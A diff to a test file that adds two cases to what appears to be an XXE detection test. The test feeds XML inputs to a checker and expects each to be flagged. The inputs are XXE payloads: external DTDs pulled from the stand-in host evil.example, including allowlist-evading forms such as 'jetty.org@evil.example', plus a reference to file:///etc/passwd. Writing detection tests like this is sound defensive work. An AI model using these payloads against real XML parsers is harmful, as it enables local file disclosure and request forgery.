@@ -2007,6 +2007,8 @@ t.test("twenty-eighth round (XML files on this machine): a vocabulary's own DTD,
     '<!DOCTYPE x [<!ATTLIST x a CDATA #IMPLIED><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><x/>',
     '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
     '<!DOCTYPE x SYSTEM "http://jetty.org.evil.example/x.dtd"><x/>',
+    '<!DOCTYPE x SYSTEM "https://jetty.org@evil.example/x.dtd"><x/>',
+    '<!DOCTYPE x PUBLIC "a" "http://www.w3.org@evil.example/x.dtd"><x/>',
     '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
   ]) t.ok(xml(d).includes('xxe'), d.split('\n')[0]!)
 })
